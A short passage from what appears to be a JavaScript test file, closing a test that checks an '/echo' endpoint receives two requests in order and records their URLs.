    expect(all.indexOf('/echo?n=2')).toBeGreaterThan(all.indexOf('/echo?n=1'));
    expect(up.requests.map((r) => r.url)).toEqual(['/echo?n=1', '/echo?n=2']);
  });
});
